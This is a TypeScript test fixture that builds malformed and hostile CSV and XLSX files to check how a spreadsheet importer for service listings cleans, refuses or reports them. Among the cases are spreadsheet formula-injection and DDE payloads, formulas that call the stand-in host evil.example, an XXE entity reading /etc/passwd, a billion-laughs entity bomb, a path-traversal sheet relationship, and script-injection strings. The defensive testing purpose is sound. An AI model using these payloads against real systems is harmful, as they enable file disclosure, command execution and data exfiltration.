import { zipOfTexts } from '../zip.ts';
import type { Hostile } from './hostile.ts';

const csv = (says: string, bytes: string | Uint8Array, becomes: Hostile['becomes'] = 'cleaned'): Hostile => ({
  says,
  file: 'a.csv',
  bytes,
  becomes,
});
const head = 'Service name,Phone,Description\n';
const row = 'Harbour Sprats,01632 960123,Songs\n';

const shapes = [
  csv('a quote that is never closed', `Name,Phone\n"Sprats,1\n${'x'.repeat(4_500_000)}`, 'refused'),
  csv('a quote that is never closed, in a small file', 'Service name,Phone\n"Sprats,1\nA,2\n', 'refused'),
  csv('quotes where none belong', `${head}Har"bour" Sprats,01632 960123,"So"ngs\n${row}`),
  csv('quotes within quotes within quotes', `${head}${row}"""""Hill"" Sprats""",01632 960123,""""""""""\n`),
  csv('a row with more cells than there are columns', `${head}Harbour Sprats,01632 960123,Songs${',x'.repeat(500)}\n`),
  csv('rows with fewer cells than there are columns', `${head}Harbour Sprats\n\n,\nHill Sprats,01632 960124\n`),
  csv('a million columns', `Service name,Phone${',x'.repeat(1_000_000)}\nHarbour Sprats,01632 960123\n`, 'refused'),
  csv('a million columns in a row', `${head}Harbour Sprats,01632 960123${',x'.repeat(1_000_000)}\n`, 'refused'),
  csv('twenty columns of one name', `${'Service name,'.repeat(20)}Phone\n${'Harbour Sprats,'.repeat(20)}01632 960123\n`),
  csv('columns that change every object', '__proto__,constructor,Service name,Phone\nx,y,Harbour Sprats,01632 960123\n'),
  csv('a column whose name has a hundred thousand letters', `Service name,Phone,${'c'.repeat(100_000)}\nHarbour Sprats,01632 960123,x\n`),
  csv('a cell of four megabytes', `${head}Harbour Sprats,01632 960123,${'x'.repeat(3_900_000)}\n`),
  csv('a cell larger than a row may be', `${head}Harbour Sprats,01632 960123,${'x'.repeat(4_300_000)}\n`, 'refused'),
  csv('a table with no known column', 'alpha,beta\n1,2\n', 'refused'),
  csv('a table of nothing but commas', ',,,,,\n,,,,,\n', 'told'),
  csv('a hundred thousand empty lines', `${head}${'\n'.repeat(100_000)}${row}`),
  csv('lines that end in three ways', `${head.trim()}\r\n${row.trim()}\rHill Sprats,01632 960124,More\n`),
  csv('nulls between the letters', Buffer.from(`${head}${row}`, 'utf16le').subarray(0)),
  csv('UTF-16 with its mark', Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.from(head + row, 'utf16le')])),
  csv('UTF-16 the other way round', Buffer.concat([Buffer.from([0xfe, 0xff]), Buffer.from(head + row, 'utf16le').swap16()])),
  csv('Latin letters of one byte', Buffer.from(`${head}${row}Caf\u00e9 Sprats,01632 960123,\u00a33 a session\n`, 'latin1')),
  csv('nothing but bytes', Buffer.from(Array.from({ length: 4096 }, (_, at) => (at * 7919) % 256)), 'told'),
];

/** What a spreadsheet would run, in every cell where a person would look. */
const formulas = [
  '=1+1',
  '=cmd|’ /C calc’!A0',
  '+cmd|x!A0',
  '-2+3+cmd|x!A0',
  '@SUM(1+1)',
  '=HYPERLINK("http://evil.example","x")',
  '=WEBSERVICE("http://evil.example")',
  '=IMPORTXML("http://evil.example","//a")',
  '\t=1+1',
  '\r=1+1',
  '＝1+1',
  '%0a=1',
].map((formula) => {
  const cell = `"${formula.replaceAll('"', '""')}"`;
  return csv(
    `the formula ${JSON.stringify(formula)} in every column`,
    `Service name,Phone,Description,Notes for us\nHarbour Sprats,01632 960123,Songs,${cell}\n${cell},01632 960124,${cell},${cell}\n`,
  );
});

const xlsx = (
  says: string,
  sheet: string,
  becomes: Hostile['becomes'] = 'cleaned',
  more: Readonly<Record<string, string>> = {},
): Hostile => ({
  says,
  file: 'a.xlsx',
  bytes: zipOfTexts({ '[Content_Types].xml': '<Types/>', ...more, 'xl/worksheets/sheet1.xml': sheet }),
  becomes,
});
const text = (at: string, words: string) => `<c r="${at}" t="str"><v>${words}</v></c>`;
const sheet = (...rows: readonly string[]) =>
  `<worksheet><sheetData><row>${text('A1', 'Service name')}${text('B1', 'Phone')}${text('C1', 'Notes for us')}</row>${rows.map((cells) => `<row>${cells}</row>`).join('')}</sheetData></worksheet>`;
const goodRow = text('A2', 'Harbour Sprats') + text('B2', '01632 960123');

const spreadsheets = [
  xlsx(
    'a spreadsheet that asks for a file of the machine',
    `<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>${sheet(`${goodRow}${text('C2', '&e;')}`)}`,
  ),
  xlsx('a spreadsheet that asks for a page of the web', `<!DOCTYPE x SYSTEM "http://127.0.0.1:1/evil.dtd">${sheet(goodRow)}`),
  xlsx(
    'a billion laughs',
    `<!DOCTYPE x [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;&a;"><!ENTITY c "&b;&b;&b;&b;">]>${sheet(`${goodRow}${text('C2', '&c;')}`)}`,
  ),
  xlsx('a formula with the value that it last had', sheet(`${goodRow}<c r="C2"><f>WEBSERVICE("http://evil.example")</f><v>7</v></c>`)),
  xlsx('a formula with no value', sheet(`${goodRow}<c r="C2"><f>cmd|' /C calc'!A0</f></c>`)),
  xlsx('a cell in the last column that there is', sheet(`${goodRow}${text('XFD2', 'far')}`)),
  xlsx('a cell in a column that there is not', sheet(`${goodRow}${text('ZZZZZZ2', 'farther')}`)),
  xlsx('a cell in a row that there is not', sheet(`${goodRow}${text('C99999999999', 'far')}`)),
  xlsx('cells that never end', `<worksheet><sheetData><row>${text('A1', 'Service name')}<c r="B1"><v>Phone</v>`, 'told'),
  xlsx('tags that are never closed', sheet(goodRow).replaceAll('</row>', ''), 'refused'),
  xlsx('forty thousand tags inside each other', `<worksheet><sheetData>${'<row>'.repeat(40_000)}${goodRow}`, 'refused'),
  xlsx('a word that is not in the list of words', sheet(`${goodRow}<c r="C2" t="s"><v>99999999</v></c>`)),
  xlsx('words by a number below nothing', sheet(`${goodRow}<c r="C2" t="s"><v>-1</v></c>`)),
  xlsx('a style that there is not', sheet(`${goodRow}<c r="C2" s="99999999"><v>44927</v></c>`)),
  xlsx('a date in the year three hundred thousand', sheet(`${goodRow}<c r="C2" s="0"><v>99999999999999999999</v></c>`), 'cleaned', {
    'xl/styles.xml': '<styleSheet><cellXfs><xf numFmtId="14"/></cellXfs></styleSheet>',
  }),
  xlsx('numbers that are none', sheet(`${goodRow}<c r="C2"><v>1e999</v></c>`)),
  xlsx(
    'HTML in every cell',
    sheet(goodRow, `${text('A2', '&lt;script&gt;alert(1)&lt;/script&gt; Group')}${text('B2', '&lt;img src=x onerror=alert(1)&gt;')}`),
  ),
  xlsx('no cell at all', '<worksheet/>', 'told'),
  xlsx('a sheet that is no XML', 'PK\u0003\u0004 nothing', 'told'),
  xlsx('a workbook that says its sheet is outside', sheet(goodRow), 'cleaned', {
    'xl/workbook.xml': '<workbook><sheets><sheet name="services" r:id="r1"/></sheets></workbook>',
    'xl/_rels/workbook.xml.rels': '<Relationships><Relationship Id="r1" Target="../../../etc/passwd"/></Relationships>',
  }),
  { says: 'a spreadsheet with no sheet', file: 'a.xlsx', bytes: zipOfTexts({ '[Content_Types].xml': '<Types/>' }), becomes: 'refused' },
  { says: 'an old spreadsheet', file: 'a.xls', bytes: Buffer.from('d0cf11e0a1b11ae1'.repeat(64), 'hex'), becomes: 'told' },
] satisfies Hostile[];

export const hostileTables: readonly Hostile[] = [...shapes, ...formulas, ...spreadsheets];
